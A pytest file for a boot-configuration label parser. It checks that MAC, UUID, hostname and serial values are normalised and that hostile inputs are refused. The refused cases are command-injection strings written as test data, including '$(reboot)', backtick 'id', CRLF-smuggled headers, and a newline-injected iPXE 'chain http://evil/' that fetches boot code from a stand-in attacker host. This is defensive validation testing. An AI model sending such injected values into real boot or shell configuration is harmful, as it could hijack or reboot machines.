"""Query label validation: good shapes normalised, hostile values refused."""

from __future__ import annotations

import pytest

from appliance.bootcfg.labels import LabelError, parse_labels


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("mac", "52:54:00:AB:cd:EF", "52:54:00:ab:cd:ef"),
        ("mac", "52-54-00-ab-cd-ef", "52:54:00:ab:cd:ef"),
        ("mac", "525400ABCDEF", "52:54:00:ab:cd:ef"),
        ("uuid", "16E7D8A7-BFA9-428B-9117-363341BB330B", "16e7d8a7-bfa9-428b-9117-363341bb330b"),
        ("hostname", "Node-1.Example.com", "node-1.example.com"),
        ("domain", "lab.example", "lab.example"),
        ("serial", "To be filled by O.E.M.", "To be filled by O.E.M."),
        ("serial", "VMware-56 4d 1a", "VMware-56 4d 1a"),
        ("os", "installed", "installed"),
        ("region", "us-east_1:a", "us-east_1:a"),
        ("arch", "x86_64", "x86_64"),
        ("MAC", "52-54-00-ab-cd-ef", "52:54:00:ab:cd:ef"),
        ("Stage", "a/b+c,d@e=f", "a/b+c,d@e=f"),
    ],
)
def test_good_values_are_normalised(key: str, value: str, expected: str) -> None:
    assert parse_labels([(key, value)]).values == {key: expected}


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        ("mac", "52:54:00:12:34", "mac: not a MAC address"),
        ("mac", "52:54:00:12:34:56\nshell reboot", "mac: not a MAC address"),
        ("mac", "${net0/mac}", "mac: not a MAC address"),
        ("uuid", "16e7d8a7-bfa9-428b-9117", "uuid: not a UUID"),
        ("hostname", "a;reboot", "hostname: not a host name"),
        ("hostname", "-bad", "hostname: not a host name"),
        ("hostname", "x" * 64, "hostname: not a host name"),
        ("serial", "abc$(reboot)", "serial: not a serial number"),
        ("serial", "abc\nchain http://evil/", "serial: not a serial number"),
        ("serial", "`id`", "serial: not a serial number"),
        ("os", "installed && reboot", "os: value not allowed"),
        ("os", "a'b", "os: value not allowed"),
        ("os", "${x}", "os: value not allowed"),
        ("os", "a b", "os: value not allowed"),
        ("os", "x\r", "os: value not allowed"),
        ("os", "#!ipxe", "os: value not allowed"),
        ("os", "$(reboot)", "os: value not allowed"),
        ("k;y", "x", "label name not allowed"),
        ("k\r\nINJECTED", "x", "label name not allowed"),
        ("$(id)", "", "label name not allowed"),
        ("#!ipxe", "", "label name not allowed"),
        ("a\r", "", "label name not allowed"),
        ("", "", "label name not allowed"),
    ],
)
def test_hostile_values_are_refused(key: str, value: str, message: str) -> None:
    with pytest.raises(LabelError, match=message.replace("$", r"\$").replace("(", r"\(")):
        parse_labels([(key, value)])


def test_empty_values_are_kept_like_matchbox_but_an_empty_mac_is_dropped() -> None:
    labels = parse_labels([("mac", "52-54-00-12-34-56"), ("hostname", ""), ("serial", "")])
    assert labels.values == {"mac": "52:54:00:12:34:56", "hostname": "", "serial": ""}
    assert labels.mac == "52:54:00:12:34:56"
    assert labels.get("hostname") is None
    empty = parse_labels([("mac", ""), ("uuid", "")])
    assert empty.values == {"uuid": ""}
    assert empty.mac is None


@pytest.mark.parametrize(
    "raw",
    [
        "os=a%0d%0aX=1",  # percent escapes are fine in the raw query; the value is checked
        "mac=52-54-00-12-34-56&os=installed&arch=x86_64",
        "serial=To%20be%20filled",
    ],
)
def test_safe_raw_queries(raw: str) -> None:
    parse_labels([], raw)


@pytest.mark.parametrize(
    "raw",
    ["os=a\r\nX=1", "a=$(id)", "a=`id`", "a=b;c", "#!ipxe", "a=%zz", 'a="b"', "a=b c", "a={x}"],
)
def test_hostile_raw_queries_are_refused(raw: str) -> None:
    with pytest.raises(LabelError, match="query string has characters"):
        parse_labels([], raw)


def test_repeated_and_too_many_labels_refused() -> None:
    with pytest.raises(LabelError, match="more than once"):
        parse_labels([("os", "a"), ("os", "b")])
    with pytest.raises(LabelError, match="more than 32 labels"):
        parse_labels([(f"k{i}", "v") for i in range(33)])
    with pytest.raises(LabelError, match="more than 32 labels"):
        parse_labels([(f"k{i}", "") for i in range(33)])
    with pytest.raises(LabelError, match="longer than"):
        parse_labels([], "x" * 3000)
